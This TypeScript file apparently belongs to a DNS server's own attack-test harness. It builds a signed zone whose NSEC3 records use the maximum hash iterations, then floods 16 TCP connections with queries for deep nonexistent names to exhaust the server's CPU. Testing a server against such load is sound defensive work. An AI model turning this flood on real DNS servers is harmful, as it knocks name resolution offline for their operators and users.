/**
 * A zone that was signed elsewhere, whose NSEC3 records hash each name as often as is let: every question for another name
 * that is not there costs all of these hashes.
 */
import dnsPacket from 'dns-packet';
import { MOST_ITERATIONS } from '../../../runtime/dnssec/presigned/nsec3-hash.ts';
import { dial, pour } from './guest.ts';
import { type StrangerAttack, stranger } from './stranger.ts';

/** One record that leads to itself covers every name. Nobody looks whether the signatures are good. */
const HASH = '0p9mhaveqvm6t7vbl5lop2u3t2rp3tom';
const PARAMETERS = `1 0 ${MOST_ITERATIONS} ${'ab'.repeat(32)}`;
const SIGNATURE = '13 2 300 20401231000000 20251231000000 1 hashed.example. AAAA';
const ZONE = `$TTL 300
@ NSEC3PARAM ${PARAMETERS}
@ RRSIG SOA ${SIGNATURE}
${HASH} NSEC3 ${PARAMETERS} ${HASH} SOA NS RRSIG NSEC3PARAM
${HASH} RRSIG NSEC3 ${SIGNATURE}
`;
const NAMES = 400;

/** Queries for names that no other has, with DO set, as a stream has them. */
function chunk(connection: number): Buffer {
  const queries = Array.from({ length: NAMES }, (_, index) => {
    const name = `q${connection}-${index}.${'deep.'.repeat(40)}hashed.example`;
    const query = dnsPacket.encode({
      type: 'query',
      id: 1,
      questions: [{ type: 'A', name }],
      additionals: [{ type: 'OPT', name: '.', udpPayloadSize: 1232, flags: dnsPacket.DNSSEC_OK }] as never,
    });
    return Buffer.concat([Buffer.of(query.length >> 8, query.length & 255), query]);
  });
  return Buffer.concat(queries);
}

export const attack: StrangerAttack = {
  title: 'Names that are hashed over and over',
  files: { 'hashed.example.zone': ZONE },
  strike: ({ port }) => {
    for (let index = 0; index < 16; index += 1) {
      const flood = dial(port, index);
      flood.on('connect', () => pour(flood, chunk(index))).resume();
    }
  },
};

if (import.meta.main) stranger(attack, import.meta.filename);
